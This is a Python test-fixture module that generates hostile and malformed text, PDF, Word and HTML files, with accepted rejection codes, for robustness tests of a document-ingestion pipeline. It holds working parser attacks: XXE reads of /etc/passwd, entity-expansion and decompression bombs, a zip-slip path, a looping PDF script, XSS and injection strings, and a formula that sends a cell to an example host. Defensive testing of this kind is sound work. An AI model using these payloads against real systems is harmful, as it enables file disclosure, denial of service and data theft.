"""Hostile and broken files, made when the tests run: each with what may become of it.

`READ` stands for a file that is ingested, with or without a warning; every other word is a rejection code.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass

import docx
from reportlab.lib import pdfencrypt
from reportlab.pdfgen.canvas import Canvas

READ = "read"
SENTENCE = "The ministry will register all migrant workers before the end of the year. "


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file by its name, what makes its bytes, and the outcomes that are right."""

    name: str
    make: Callable[[], bytes]
    outcomes: frozenset[str]


def pdf(*lines: str, pages: int = 1, encrypt: str | None = None) -> bytes:
    """A PDF with the same lines on each page."""
    buffer = io.BytesIO()
    encryption = pdfencrypt.StandardEncryption(encrypt, canPrint=1) if encrypt is not None else None
    canvas = Canvas(buffer, encrypt=encryption, invariant=1)
    for _ in range(pages):
        for number, line in enumerate(lines):
            canvas.drawString(60, 780 - 14 * number, line)
        canvas.showPage()
    canvas.save()
    return buffer.getvalue()


def raw_pdf(objects: Mapping[int, bytes], *, root: int = 1) -> bytes:
    """A PDF of hand-written objects with a right table of their places."""
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number in sorted(objects):
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    start = len(out)
    size = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % places.get(number, 0)
    out += b"trailer << /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, start)
    return bytes(out)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>"
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_TEXT = b"BT /F 12 Tf 50 700 Td (" + SENTENCE.encode() + b") Tj ET"


def page_pdf(content: bytes, *, page: bytes = _PAGE, extra: Mapping[int, bytes] | None = None) -> bytes:
    """A PDF of one page with the given content stream object."""
    return raw_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 3: page, 4: content,
        5: _FONT, **(extra or {}),
    })


def word(*paragraphs: str) -> bytes:
    """A Word file."""
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def repacked(changes: Mapping[str, bytes | None], base: bytes | None = None) -> bytes:
    """A Word file with parts replaced, added or (None) taken away."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base or word(SENTENCE))) as old, zipfile.ZipFile(
        out, "w", zipfile.ZIP_DEFLATED
    ) as new:
        for part in old.namelist():
            if part not in changes:
                new.writestr(part, old.read(part))
        for part, data in changes.items():
            if data is not None:
                new.writestr(part, data)
    return out.getvalue()


def body(xml: str, *, doctype: str = "") -> bytes:
    """A document part around the given XML."""
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{doctype}<w:document xmlns:w="http://schemas.'
        f'openxmlformats.org/wordprocessingml/2006/main"><w:body>{xml}</w:body></w:document>'
    ).encode()


def paragraph(text: str) -> str:
    """A Word paragraph."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


_MAIN = "word/document.xml"
_LAUGHS = "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'>" + "".join(
    f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
) + "]>"
_FILE = "<!DOCTYPE x [<!ENTITY f SYSTEM 'file:///etc/passwd'>]>"


def _zip(members: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _lying_zip() -> bytes:
    """A package whose part says that it is small."""
    data = bytearray(repacked({_MAIN: body(paragraph("a" * 3_000_000))}))
    place = data.rfind(b"PK\x01\x02", 0, data.rfind(_MAIN.encode()))
    data[place + 24 : place + 28] = struct.pack("<I", 100)
    return bytes(data)


def _with_flag() -> bytes:
    data = bytearray(word(SENTENCE))
    for mark, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        place = data.find(mark)
        while place >= 0:
            data[place + offset] |= 1
            place = data.find(mark, place + 4)
    return bytes(data)


def _ole_encrypted() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(400)


def _h(name: str, make: Callable[[], bytes], *outcomes: str) -> Hostile:
    return Hostile(name, make, frozenset(outcomes))


def hostile_files() -> tuple[Hostile, ...]:
    """Every hostile file."""
    return (*_texts(), *_pdfs(), *_words(), *_pages(), *_others())


def _texts() -> tuple[Hostile, ...]:
    text = SENTENCE.encode()
    return (
        _h("empty.md", lambda: b"", "empty"),
        _h("blank.txt", lambda: b" \n\t\r\n" * 300, "empty"),
        _h("marks.md", lambda: b"# --- \n***\n| | |\n" * 20, "empty"),
        _h("nul.txt", lambda: text + b"\x00" + text, "binary"),
        _h("nuls.txt", lambda: bytes(5000), "binary"),
        _h("latin1.txt", lambda: ("Les réfugiés sont protégés à l'étranger. " * 90).encode("latin-1"), "bad_encoding"),
        _h("few-bad.txt", lambda: text * 20 + b"\xff\xfe\x80" + text, READ),
        _h("utf16.txt", lambda: b"\xff\xfe" + (SENTENCE * 5).encode("utf-16-le"), READ),
        _h("utf16-cut.txt", lambda: b"\xff\xfe" + SENTENCE.encode("utf-16-le") + b"a", READ),
        _h("surrogates.txt", lambda: b"\xff\xfe" + SENTENCE.encode("utf-16-le") + b"\x00\xd8\x41\x00", READ),
        _h("huge-line.txt", lambda: b"a" * 50_000_001, "too_large"),
        _h("long-line.txt", lambda: b"migration " * 520_000, "too_long"),
        _h("one-word.txt", lambda: b"a" * 400_000, READ),
        _h("no-stop.txt", lambda: b"and migrants " * 9000, READ),
        _h("right-to-left.txt", lambda: (SENTENCE + "\u202egnorw\u202c \u200f\u061c" + SENTENCE).encode(), READ),
        _h("controls.txt", lambda: text + b"\x01\x02\x07\x1b[31m" + text, READ),
        _h("acronyms.txt", lambda: "".join(
            f"The Office of Item{n} Matters (OI{n}M) met. " for n in range(2000)).encode(), READ),
        _h("objective-24.txt", lambda: (SENTENCE + "See objective 24 and objectives 1–230.\n").encode(), READ),
        _h("objectives-range.txt", lambda: b"Objectives 1-999999999999999999 and 0 of the GCM.\n" * 9, READ),
        _h("brackets.txt", lambda: b"(" * 60_000 + text + b")" * 60_000, READ),
        _h("stars.md", lambda: b"*" * 60_000 + text + b"_" * 60_000, READ),
        _h("links.md", lambda: b"[" * 40_000 + text + b"](" * 20_000, READ),
        _h("notes.md", lambda: b"[^1]" * 20_000 + b"\n\n[^1]: " + text, READ),
        _h("pipes.md", lambda: b"|" * 90_000 + b"\n" + text, READ),
        _h("hashes.md", lambda: b"# " * 30_000 + text, READ),
        _h("bullets.md", lambda: b"\n".join(b" " * (n % 900) + b"- " + text for n in range(900)), READ),
        _h("dots.txt", lambda: b"a. " * 40_000, READ),
        _h("spaces.txt", lambda: text + b" " * 300_000 + text, READ),
        _h("commas.txt", lambda: b"the Ministry of Labour, " * 8_000, READ),
        _h("turtle.txt", lambda: b'> <urn:x> . } DROP ALL ; INSERT { <a> <b> "c\\u0022" } """ \n' + text, READ),
        _h("formulas.txt", lambda: b'=HYPERLINK("http://x.example/?"&A1)\n\n+1+1\n\n@SUM(1)\n\n' + text, READ),
        _h("html-in-text.md", lambda: b"<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n" + text, READ),
    )


def _pdfs() -> tuple[Hostile, ...]:
    good = pdf(*[SENTENCE] * 20, pages=3)
    bomb = zlib.compress(b" " * 400_000_000, 9)
    return (
        _h("password.pdf", lambda: pdf(SENTENCE, encrypt="secret"), "encrypted"),
        _h("owner-only.pdf", lambda: pdf(SENTENCE, encrypt=""), READ),
        _h("cut-in-half.pdf", lambda: good[: len(good) // 2], READ, "damaged"),
        _h("cut-at-100.pdf", lambda: good[:100], "damaged"),
        _h("head-only.pdf", lambda: b"%PDF-1.7\n", "damaged"),
        _h("head-then-text.pdf", lambda: b"%PDF-1.7\n" + SENTENCE.encode() * 50, "damaged"),
        _h("no-table.pdf", lambda: good[: good.rfind(b"xref\n0")], READ, "damaged"),
        _h("wrong-table.pdf", lambda: good.replace(b"startxref\n", b"startxref\n9"), READ, "damaged"),
        _h("garbage-before.pdf", lambda: b"\r\n" * 200 + good, READ, "damaged"),
        _h("flipped.pdf", lambda: bytes(b ^ 0x5A if n % 97 == 0 and n > 900 else b for n, b in enumerate(good)),
           READ, "damaged", "no_text_layer", "crashed", "empty"),
        _h("no-pages.pdf", lambda: raw_pdf({
            1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"}), "damaged"),
        _h("page-loop.pdf", lambda: raw_pdf({
            1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}), "damaged",
           "no_text_layer"),
        _h("million-pages.pdf", lambda: raw_pdf({
            1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>", 3: _PAGE,
            4: stream(_TEXT), 5: _FONT}), "too_long", "damaged", READ),
        _h("content-loop.pdf", lambda: page_pdf(b"4 0 R"), "no_text_layer", "damaged"),
        _h("form-loop.pdf", lambda: page_pdf(
            stream(b"/X Do"),
            page=_PAGE.replace(b"/Font <<", b"/XObject << /X 6 0 R >> /Font <<"),
            extra={6: stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] "
                             b"/Resources << /XObject << /X 6 0 R >> >>")}), "no_text_layer"),
        _h("stream-bomb.pdf", lambda: page_pdf(stream(bomb, b"/Filter /FlateDecode")),
           "no_text_layer", "out_of_memory", "crashed", "timeout", "damaged"),
        _h("picture-only.pdf", lambda: page_pdf(stream(b"0 0 100 100 re f")), "no_text_layer"),
        _h("no-resources.pdf", lambda: page_pdf(stream(_TEXT), page=_PAGE.split(b"/Resources")[0] + b">>"),
           READ, "no_text_layer"),
        _h("odd-sizes.pdf", lambda: page_pdf(stream(_TEXT.replace(b"50 700", b"1e38 -1e38")), page=_PAGE.replace(
            b"[0 0 600 800]", b"[-99999999 nan 1e30 0]")), READ, "no_text_layer", "damaged"),
        _h("zero-font.pdf", lambda: page_pdf(stream(_TEXT.replace(b"/F 12", b"/F 0"))), READ, "no_text_layer"),
        _h("turned.pdf", lambda: page_pdf(
            stream(_TEXT), page=_PAGE.replace(b"/MediaBox", b"/Rotate 90 /MediaBox")), READ),
        _h("deep-dictionary.pdf", lambda: page_pdf(stream(_TEXT), page=_PAGE.replace(
            b"/Resources", b"/Deep " + b"[" * 3000 + b"]" * 3000 + b" /Resources")), READ, "damaged", "crashed"),
        _h("script.pdf", lambda: raw_pdf({
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (while\\(1\\){}) >> >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 3: _PAGE, 4: stream(_TEXT), 5: _FONT}), READ),
    )


def _words() -> tuple[Hostile, ...]:
    good = word(*[SENTENCE] * 20)
    deep = "<w:tbl><w:tr><w:tc>" * 60 + paragraph(SENTENCE) + "</w:tc></w:tr></w:tbl>" * 60
    return (
        _h("cut.docx", lambda: good[: len(good) // 2], "damaged", "unsupported_format"),
        _h("zip-only.docx", lambda: _zip({"a.txt": b"words"}), "unsupported_format"),
        _h("empty-zip.docx", lambda: _zip({}), "unsupported_format"),
        _h("no-main-part.docx", lambda: repacked({_MAIN: None}), "damaged"),
        _h("no-relations.docx", lambda: repacked({"_rels/.rels": None}), "damaged"),
        _h("broken-xml.docx", lambda: repacked({_MAIN: body(paragraph(SENTENCE))[:-30]}), "damaged"),
        _h("not-xml.docx", lambda: repacked({_MAIN: SENTENCE.encode()}), "damaged"),
        _h("entities.docx", lambda: repacked({_MAIN: body(paragraph("&i;"), doctype=_LAUGHS)}), "damaged"),
        _h("external-entity.docx", lambda: repacked({_MAIN: body(paragraph("&f;"), doctype=_FILE)}), "damaged"),
        _h("wide-entities.docx", lambda: repacked({_MAIN: body(paragraph("&i;"), doctype=_LAUGHS).replace(
            b"UTF-8", b"UTF-16").decode().encode("utf-16")}), "damaged"),
        _h("bomb.docx", lambda: repacked({"word/media/x.xml": b"<a/>" * 60_000_000}), "too_large"),
        _h("ratio.docx", lambda: repacked({_MAIN: body(paragraph("a" * 30_000_000))}), "too_large"),
        _h("lying-size.docx", _lying_zip, "damaged"),
        _h("many-parts.docx", lambda: repacked({f"word/p{n}.bin": b"" for n in range(10_100)}), "too_large"),
        _h("encrypted-parts.docx", _with_flag, "encrypted"),
        _h("encrypted-office.docx", _ole_encrypted, "encrypted"),
        _h("old-word.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000), "unsupported_format"),
        _h("climbing-part.docx", lambda: repacked({"../../../tmp/evil.txt": b"out"}), READ),
        _h("no-text.docx", lambda: word(""), "empty"),
        _h("deep-tables.docx", lambda: repacked({_MAIN: body(deep)}), READ, "damaged"),
        _h("deeper.docx", lambda: repacked({_MAIN: body("<w:p>" * 5000 + "</w:p>" * 5000)}), "damaged", "empty"),
        _h("style-loop.docx", lambda: repacked({"word/styles.xml": body("").replace(b"document", b"styles").replace(
            b"<w:body></w:body>", b'<w:style w:type="paragraph" w:styleId="a"><w:basedOn w:val="a"/></w:style>')},
            repacked({_MAIN: body('<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr><w:r><w:t>' + SENTENCE
                                  + "</w:t></w:r></w:p>")})), READ),
        _h("note-loop.docx", lambda: repacked({_MAIN: body(
            paragraph(SENTENCE) + '<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>')}), READ),
        _h("spreadsheet.docx", lambda: _zip({"xl/workbook.xml": b"<x/>"}), "unsupported_format"),
    )


def _pages() -> tuple[Hostile, ...]:
    start = b"<!DOCTYPE html><html><body>"
    text = b"<p>" + SENTENCE.encode() + b"</p>"
    return (
        _h("deep.html", lambda: start + b"<div>" * 20_000 + text, READ),
        _h("deep-lists.html", lambda: start + b"<ul><li>" * 5_000 + text, READ),
        _h("unclosed.html", lambda: start + text + b"<table><tr><td><b><i><a href='" + b"x" * 9000, READ),
        _h("only-script.html", lambda: start + b"<script>" + SENTENCE.encode() + b"</script>", "empty"),
        _h("includes.html", lambda: start + text + b"<iframe src='file:///etc/passwd'></iframe>", READ),
        _h("entity.html", lambda: b"<?xml version='1.0'?><!DOCTYPE html [<!ENTITY f SYSTEM 'file:///etc/passwd'>]><html>"
           + text + b"<p>&f;</p></html>", READ),
        _h("wide-table.html", lambda: start + text + b"<table><tr>" + b"<td colspan=9999>x" * 900 + b"</table>", READ),
        _h("lying-charset.html", lambda: b"<html><head><meta charset=utf-16></head>" + text + b"</html>", READ),
        _h("odd-charset.html", lambda: b"<html><head><meta charset=zip></head>" + text + b"</html>", READ),
        _h("attributes.html", lambda: start + b"<p " + b"a=b " * 60_000 + b">" + SENTENCE.encode(), READ),
        _h("nul.html", lambda: start + text + b"\x00", "binary"),
    )


def _others() -> tuple[Hostile, ...]:
    png = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20
    return (
        _h("picture.pdf", lambda: png, "unsupported_format"),
        _h("picture.docx", lambda: png, "unsupported_format"),
        _h("word-as.pdf", lambda: word(SENTENCE), READ),
        _h("pdf-as.docx", lambda: pdf(SENTENCE), READ),
        _h("page-as.txt", lambda: b"<html><body><p>" + SENTENCE.encode() + b"</p></body></html>", READ),
        _h("rich.rtf", lambda: rb"{\rtf1 " + SENTENCE.encode() + b"}", "unsupported_format"),
        _h("packed.md", lambda: b"\x1f\x8b" + bytes(range(256)), "unsupported_format"),
        _h("program.txt", lambda: b"\x7fELF" + bytes(300), "unsupported_format"),
        _h("quotes\"'`;<x>.md", lambda: SENTENCE.encode() + b"One. ", READ),
        _h("line\nbreak.md", lambda: SENTENCE.encode() + b"Two. ", READ),
        _h("-leading-dash.md", lambda: SENTENCE.encode() + b"Three. ", READ),
        _h("e\u0301tat.md", lambda: SENTENCE.encode() + b"Four. ", READ),
        _h("> . } DROP ALL # .md", lambda: SENTENCE.encode() + b"Five. ", READ),
        _h("\u202egnol\u202c.md", lambda: SENTENCE.encode() + b"Six. ", READ),
        _h("a" * 240 + ".md", lambda: SENTENCE.encode() + b"Seven. ", READ),
    )
